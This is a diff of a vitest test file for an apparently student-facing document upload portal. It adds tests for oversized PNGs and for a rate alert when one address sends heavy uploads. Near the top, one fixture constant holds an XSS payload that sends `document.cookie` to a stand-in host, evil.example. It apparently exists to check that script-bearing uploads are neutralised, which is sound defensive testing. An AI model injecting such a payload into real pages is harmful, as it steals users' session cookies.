@@ -1,12 +1,14 @@
 import sharp from 'sharp'
 import * as v from 'valibot'
 import { expect, test } from 'vitest'
+import { maxPixels } from '../../src/documents/image/judge.ts'
 import { documentTypes } from '../../src/spec/documents.ts'
 import { insertSegments, segment } from '../../tests/photos/exif.ts'
 import { chunk, header, png, withJpegSize } from '../../tests/photos/pictures.ts'
+import { heavyPerAddress, pngPixels } from '../src/limits/limits.ts'
 import { comparisonsOf } from '../src/operator/comparisons.ts'
 import { Dossier } from '../src/operator/dossier.ts'
-import { oneCampus } from './setup/campus.ts'
+import { confirmAll, inventStudents, oneCampus } from './setup/campus.ts'
 import { photograph } from './setup/photographs.ts'
 import { photosIn } from './setup/stored.ts'
 import { enrolAndConfirm, from, students } from './setup/visitor.ts'
@@ -15,7 +17,8 @@ import { enrolAndConfirm, from, students } from './setup/visitor.ts'
  * Pictures that are more, or cost more, than a photograph; and whoever sends a right one meanwhile.
  */
 
-const { server, visitor } = await oneCampus()
+const many = inventStudents(4)
+const { server, visitor } = await oneCampus(many)
 const { aminata, moussa, fatoumata } = students
 const [stranger, home] = [from('198.51.100.66'), from('198.51.100.7')]
 const script = Buffer.from('<script>fetch("//evil.example/"+document.cookie)</script>')
@@ -48,6 +51,8 @@ test('pictures that take gigabytes to be seen are refused by their headers, with
       12_000,
       9000,
     ),
+    'a PNG of more pixels than the portal takes': png(headOf(10_900, 11_000, 8, 0, 0), data, end),
+    'a PNG of millions of rows': png(headOf(1, 9_000_000, 1, 0, 0), data, end),
     'a PNG of billions of pixels': png(headOf(60_000, 60_000, 8, 2, 0), data, end),
     'a JPEG of 144 megapixels': withJpegSize(await field.clone().jpeg().toBuffer(), 12_000, 12_000),
   }
@@ -60,7 +65,7 @@ test('pictures that take gigabytes to be seen are refused by their headers, with
   expect(await storedOf(matricule)).toEqual([])
 })
 
-test('what a phone’s camera and the portal write is taken: 108 megapixels, progressive ones of 50, deep ones of 24', async () => {
+test('what a phone’s camera and the portal write is taken: 108 megapixels, progressive ones and PNGs of 50, deep ones of 24', async () => {
   const { matricule } = aminata
   const field = (width: number, height: number) =>
     sharp({ create: { width, height, channels: 3, background: '#a85' }, limitInputPixels: false })
@@ -69,8 +74,10 @@ test('what a phone’s camera and the portal write is taken: 108 megapixels, pro
     await field(8192, 6144).jpeg({ progressive: true }).toBuffer(),
     await field(6000, 4000).toColourspace('rgb16').png().toBuffer(),
     await field(2448, 3264).png({ progressive: true }).toBuffer(),
+    await field(8192, 6144).png().toBuffer(),
   ]
   for (const picture of pictures) expect((await send(matricule, 'carteid', picture)).status).toBe(1)
+  expect(pngPixels).toBe(maxPixels)
 }, 120_000)
 
 test('a photograph that is also a script and an archive is stored as the photograph alone, and a repeat is known', async () => {
@@ -99,6 +106,25 @@ test('a stranger’s junk does not use up the tries of a student', async () => {
   // Nor those of whoever stands behind the same address: what is a photograph is always one.
   expect((await send(matricule, 'attest', await photograph(20), stranger)).status).toBe(1)
 })
+
+test('an address whose pictures keep a decoder busy is told of, and none of them is refused', async () => {
+  await confirmAll(server, many)
+  const crowd = from('198.51.100.99')
+  const flat = sharp({ create: { width: 4000, height: 4000, channels: 3, background: '#a85' } })
+  const heavy = (await flat.jpeg().toBuffer()).toString('base64')
+  const most = Math.max(...heavyPerAddress.map(limit => limit.most))
+  const sendAll = (count: number) =>
+    Promise.all(
+      Array.from({ length: count }, (_, nth) =>
+        visitor.send(many[nth % many.length] ?? aminata, 'attest', heavy, { ...crowd, gzip: true }),
+      ),
+    )
+  for (let sent = 0; sent < most; sent += 20)
+    expect(new Set((await sendAll(20)).map(({ status }) => status))).toEqual(new Set([1]))
+  expect(await told('heavyUploads')).toBe(0)
+  expect((await sendAll(1))[0]?.status).toBe(1)
+  expect(await told('heavyUploads')).toBe(1)
+}, 120_000)
 
 test('one photograph as two documents is taken, and the verifier is told', async () => {
   const { matricule } = fatoumata
